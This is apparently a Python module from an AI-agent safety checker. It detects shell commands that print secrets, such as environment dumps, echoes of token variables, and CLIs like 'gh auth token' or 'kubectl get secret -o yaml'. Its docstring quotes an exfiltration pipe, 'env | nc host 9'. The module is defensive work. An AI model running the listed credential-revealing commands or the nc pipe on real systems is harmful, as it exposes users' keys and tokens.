"""Secrets that are not files: environment variables, and CLIs that print stored credentials.

A secret's file name is not the only way to it. `printenv AWS_SECRET_ACCESS_KEY` and
`echo "$GITHUB_TOKEN"` print a secret variable into the agent's context (`high`, credentials);
`env` or `printenv` alone prints every variable, tokens included (`medium`; shell.py makes it
`high` exfiltration when a pipe sends it on: `env | nc host 9`). A secret variable piped into
a program (`echo "$PAT" | docker login --password-stdin`) reaches that program, not the output,
and passes.

CLIs that print a credential they store: `gh auth token`, `aws configure get
aws_secret_access_key`, `kubectl config view --raw`, `kubectl get secret X -o yaml`, `gcloud
auth print-access-token`, `az account get-access-token`, `pass show`, `security
find-generic-password -w`, `secret-tool lookup`, `docker-credential-X get`. Secret managers read
on purpose (`vault kv get`, `op read`, `aws secretsmanager get-secret-value`) pass: that is
what they are for, and the labelled data allows them. To cover
one more, add a row to _REVEALS (program → the subcommand words, and the flags that make it
print the secret when it does not by default).
"""

from __future__ import annotations

import re
from itertools import pairwise

from nerve.safety.invocation import Invocation, flags_of, positionals
from nerve.safety.lexer import Command
from nerve.safety.verdict import Finding, wordset
from nerve.safety.wrappers import ASSIGN, basename

__all__ = ["SECRET_CLIS", "env_read", "reveals_secret", "secret_refs"]

_SECRET_NAME = re.compile(
    r"SECRET|TOKEN|PASSWORD|PASSWD|APIKEY|API_KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL|"
    r"(?:^|_)PASS(?:$|_)|.+_KEY$|^PGPASS|_PAT$|^PAT$",
    re.IGNORECASE,
)
# `$NAME` and `${NAME}` that print the value; `${NAME:+set}` and `${#NAME}` do not.
_REF = re.compile(r"\$(?:\{([A-Za-z_]\w*)(?!:?\+|\w)|([A-Za-z_]\w*))")
_DUMPERS = wordset("printenv env")
_ECHOES = wordset("echo printf print")


def secret_refs(words: list[str]) -> list[str]:
    names: list[str] = []
    for word in words:
        if "$" in word:
            for m in _REF.finditer(word):
                name = m.group(1) or m.group(2)
                if _SECRET_NAME.search(name):
                    names.append(name)
    return names


def env_read(cmd: Command, piped: bool) -> Finding | None:
    """A command that prints secret variables (None when it prints none). `piped`: its output
    goes into another program, not to the agent."""
    words = cmd.words
    i = 0
    while i < len(words) and ASSIGN.match(words[i]):
        i += 1
    while i < len(words) and basename(words[i]) in ("sudo", "command", "builtin"):
        i += 1
    if i >= len(words):
        return None
    prog, args = basename(words[i]), words[i + 1 :]
    if prog in ("declare", "typeset") and "-p" in args:  # `declare -p AWS_SECRET_ACCESS_KEY`
        secret = [a for a in args if _SECRET_NAME.search(a) and not a.startswith("-")]
        if secret and not piped:
            return Finding(
                "high", f"{prog} -p prints the secret variable {secret[0]}", "credentials"
            )
    if prog in _DUMPERS:
        names = [a for a in args if not a.startswith("-")]
        if prog == "env" and any(not ASSIGN.match(a) for a in names):
            return None  # env runs a command
        secret = [n for n in names if _SECRET_NAME.search(n)]
        if secret and not piped:
            why = f"{prog} prints the secret variable {secret[0]}"
            return Finding("high", why, "credentials")
        if not names or (prog == "env" and all(ASSIGN.match(n) for n in names)):
            why = f"{prog} prints every environment variable, tokens included"
            return Finding("medium", why, "credentials")
        return None
    if prog in _ECHOES and not piped:
        secret = secret_refs(args)
        if secret:
            why = f"{prog} prints the secret variable {secret[0]}"
            return Finding("high", why, "credentials")
    return None


# program -> (subcommand words that print a secret, flags that make them print it; () = always)
_REVEALS: dict[str, list[tuple[tuple[str, ...], frozenset[str]]]] = {
    "gh": [(("auth", "token"), frozenset()), (("auth", "status"), wordset("-t --show-token"))],
    "aws": [
        (("configure", "export-credentials"), frozenset()),
        (("ecr", "get-login-password"), frozenset()),
        (("sts", "get-session-token"), frozenset()),  # a fresh key pair, printed
        (("sts", "get-federation-token"), frozenset()),
        (("sts", "assume-role"), frozenset()),
        (("sts", "assume-role-with-saml"), frozenset()),
        (("sts", "assume-role-with-web-identity"), frozenset()),
    ],
    "kubectl": [(("config", "view"), wordset("--raw --flatten"))],
    "gcloud": [
        (("auth", "print-access-token"), frozenset()),
        (("auth", "print-identity-token"), frozenset()),
        (("auth", "application-default", "print-access-token"), frozenset()),
    ],
    "az": [
        (("account", "get-access-token"), frozenset()),
    ],
    "pass": [(("show",), frozenset())],
    "security": [
        (("find-generic-password",), wordset("-w -g")),
        (("find-internet-password",), wordset("-w -g")),
        (("dump-keychain",), frozenset()),
    ],
    "secret-tool": [(("lookup",), frozenset())],
    "heroku": [(("auth:token",), frozenset())],
    "vault": [(("print", "token"), frozenset())],  # kv get: app config, as the tests decide
    "doctl": [(("auth", "token"), frozenset())],
}
_REVEALS["oc"] = _REVEALS["kubectl"]
SECRET_CLIS = frozenset(_REVEALS) | {"docker-credential"}
_PASS_VERBS = wordset("ls list insert add generate edit rm remove mv cp git init find grep help")
_K8S_DUMP = re.compile(r"^(?:-o|--output)=?(?:ya?ml|json|jsonpath|go-template)|^-o(?:ya?ml|json)")


def _leaked(inv: Invocation, why: str) -> Finding:
    return Finding("high", f"{inv.prog} {why}", "credentials")


def reveals_secret(inv: Invocation) -> Finding | None:
    """A CLI asked to print a credential it stores; None otherwise."""
    prog, args = inv.prog, inv.args
    pos = [a.lower() for a in positionals(args, wordset("-o --output -n --namespace --profile"))]
    if prog.startswith("docker-credential-") and pos[:1] == ["get"]:
        return _leaked(inv, "get prints a stored registry password")
    if (
        prog in ("kubectl", "oc")
        and pos[:1] == ["get"]
        and pos[1:2]
        and (pos[1].split("/", 1)[0] in ("secret", "secrets"))
    ):
        words = [a.lower() for a in args]
        if any(_K8S_DUMP.match(w) for w in words) or any(
            w in ("-o", "--output") and n.startswith(("y", "j", "go")) for w, n in pairwise(words)
        ):
            return _leaked(inv, "get secret -o prints the secret's values")
    if prog == "aws" and pos[:2] == ["configure", "get"] and _SECRET_NAME.search("".join(pos[2:3])):
        return _leaked(inv, f"configure get prints {pos[2]}")
    if prog == "pass" and pos and pos[0] not in _PASS_VERBS:
        return _leaked(inv, "prints a stored password")
    short, long = flags_of(args)
    flags = {f"-{c}" for c in short} | long
    for verbs, needs in _REVEALS.get(prog, ()):
        if tuple(pos[: len(verbs)]) == verbs and (not needs or flags & needs):
            return _leaked(inv, f"{' '.join(verbs)} prints a stored credential")
    return None
